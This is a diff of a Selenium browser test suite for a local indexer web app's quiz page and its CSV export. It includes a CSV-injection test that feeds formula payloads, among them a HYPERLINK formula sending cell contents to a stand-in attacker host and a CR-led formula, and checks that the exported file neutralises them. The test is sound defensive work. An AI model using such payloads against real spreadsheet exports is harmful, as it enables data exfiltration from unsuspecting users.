@@ -1,10 +1,10 @@
 """The web page in a real headless Chromium against a real `indexer serve` on loopback.
 
 Why a real browser and server: the page's promises (the key prompt on 401, safe snippet rendering, citations
-that jump, a quiz that scores, a CSV that downloads) live in JavaScript talking to the HTTP API, and only a
-browser runs both. Debian's `chromium` is driven through its own `chromedriver` (same version, same package
-source) with Selenium; nothing downloads a browser. Without them these tests fail with a message saying how to
-install them (`make test` does so when it runs as root).
+that jump, a quiz that scores, a CSV the server makes and the page downloads) live in JavaScript talking to the
+HTTP API, and only a browser runs both. Debian's `chromium` is driven through its own `chromedriver` (same
+version, same package source) with Selenium; nothing downloads a browser. Without them these tests fail with a
+message saying how to install them (`make test` does so when it runs as root).
 
 The server runs with an API key, as a shared deployment would; the tiny random models make every ranking
 but the keyword leg arbitrary, so assertions are about the flow and the structure, not about relevance. The
@@ -242,12 +242,23 @@ def quiz_from_document(driver: WebDriver, path: str, n: int) -> list[WebElement]
 
 
 def download_quiz_csv(driver: WebDriver, downloads: Path) -> bytes:
-    """Click the CSV button and return the bytes of the file the browser saved."""
-    for old in downloads.glob("*.csv"):
+    """Click the CSV button and return the bytes of the file the browser saved, once it is complete."""
+    for old in downloads.iterdir():
         old.unlink()
     click(driver, by_id(driver, "quiz-csv"))
-    files = wait(driver, lambda d: list(downloads.glob("quiz-*.csv")), "the CSV was not downloaded")
-    return files[0].read_bytes()
+    sizes: list[int] = []
+
+    def complete(_: WebDriver) -> Path | None:
+        """The one quiz file, with no download in progress (.crdownload) and the same size at two looks."""
+        if list(downloads.glob("*.crdownload")):
+            return None
+        files = list(downloads.glob("quiz-*.csv"))
+        if len(files) != 1:
+            return None
+        sizes.append(files[0].stat().st_size)
+        return files[0] if len(sizes) > 1 and sizes[-1] == sizes[-2] > 0 else None
+
+    return wait(driver, complete, "the CSV was not downloaded completely").read_bytes()
 
 
 # -- tests -------------------------------------------------------------------------------------------------
@@ -393,13 +404,13 @@ def test_quiz_renders_choices_scores_answers_and_downloads_csv(
 
     data = download_quiz_csv(page, downloads)
     assert data.startswith(b"\xef\xbb\xbf"), "a byte order mark, for Excel"
-    text = data.decode("utf-8-sig")
-    rows = read_table(text)  # the CLI's own reader: the page writes the same columns
+    text = data.decode("utf-8")
+    assert text.endswith("\r\n") and text.count("\r\n") == len(questions) + 1, "CRLF rows, as Excel writes them"
+    rows = read_table(text)  # the CLI's own reader: the server writes the file with the CLI's code
     shown = [q.find_element(By.TAG_NAME, "legend").text for q in page.find_elements(By.CSS_SELECTOR, ".quiz-question")]
     assert [f"問{i + 1}. {row['question']}" for i, row in enumerate(rows)] == shown
     assert [row["answer"] for row in rows] == answers and all(row["path"] == QUIZ_DOC for row in rows)
-    graded = list(csv.DictReader(io.StringIO(text)))
-    assert [row["correct"] for row in graded] == ["true"] * len(rows)
+    assert list(next(csv.reader(io.StringIO(text.removeprefix("\ufeff")))))[-1] == "mode"
 
 
 # Document text the API hands over as it is: a document can make a question, answer or title start with "=".
@@ -412,6 +423,7 @@ window.fetch = async (path, init) => {
   for (const q of data.questions) {
     q.question = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';
     q.title = "@SUM(A1:A9)";
+    q.answer_type = "\\r=1+1";
     q.options = q.options.map((option) => (option === q.answer ? "-1+2" : option));
     q.answer = "-1+2";
   }
@@ -429,13 +441,14 @@ def test_quiz_csv_keeps_formulas_from_running_in_a_spreadsheet(
     assert question.find_element(By.TAG_NAME, "legend").text == '問1. =HYPERLINK("http://evil.example/?"&A1,"詳細")'
 
     text = download_quiz_csv(page, downloads).decode("utf-8-sig")
-    cells = next(csv.DictReader(io.StringIO(text)))
+    # newline="": a bare CR ends a line, as in Excel and LibreOffice; the CR-led cell must not start a row.
+    (cells,) = list(csv.DictReader(io.StringIO(text, newline="")))
     assert cells["question"] == '\'=HYPERLINK("http://evil.example/?"&A1,"詳細")'
-    assert (cells["title"], cells["answer"]) == ("'@SUM(A1:A9)", "'-1+2")
+    assert (cells["title"], cells["answer"], cells["answer_type"]) == ("'@SUM(A1:A9)", "'-1+2", "'\r=1+1")
     assert "'-1+2" in [cells[f"option_{i}"] for i in range(1, 5)]
     row = read_table(text)[0]  # the apostrophes come off again on import
-    assert (row["question"], row["title"], row["answer"]) == ('=HYPERLINK("http://evil.example/?"&A1,"詳細")',
-                                                              "@SUM(A1:A9)", "-1+2")  # fmt: skip
+    assert (row["question"], row["title"], row["answer"], row["answer_type"]) == (
+        '=HYPERLINK("http://evil.example/?"&A1,"詳細")', "@SUM(A1:A9)", "-1+2", "\r=1+1")  # fmt: skip
 
 
 @artifacts_on_failure
